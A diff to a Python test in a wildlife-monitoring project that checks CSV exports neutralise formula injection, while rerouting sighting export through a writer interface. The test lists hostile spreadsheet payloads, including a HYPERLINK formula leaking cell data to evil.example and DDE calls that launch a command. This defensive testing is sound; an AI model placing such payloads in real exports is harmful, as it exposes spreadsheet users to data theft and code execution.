@@ -718,7 +718,8 @@ def test_csv_exports_never_start_a_formula(tmp_path):
     import csv
 
     from wildwatch.monitor.cases import CaseBook, Post, cases_text
-    from wildwatch.monitor.events import Sighting, sightings_text
+    from wildwatch.inference.writers import columns_of, get_writer
+    from wildwatch.monitor.events import Sighting
     from wildwatch.monitor.evidence import post_evidence
 
     hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
@@ -737,7 +738,7 @@ def test_csv_exports_never_start_a_formula(tmp_path):
     assert {r["link"] for r in rows} == {"'" + h for h in hostile}  # kept as text, one apostrophe in front
     sightings = [Sighting(h, "rhino", 0.9, "2026-05-01T05:00:00+00:00", "2026-05-01T05:01:00+00:00", link=h,
                           latitude=-1.29, longitude=-36.8) for h in hostile]
-    for row in csv.DictReader(io.StringIO(sightings_text(sightings, "csv"))):
+    for row in csv.DictReader(io.StringIO(get_writer("csv").write_sightings(sightings, columns_of(Sighting)))):
         assert row["source"].startswith("'") and row["link"].startswith("'") and row["latitude"] == "-1.29"
     store.close()
 
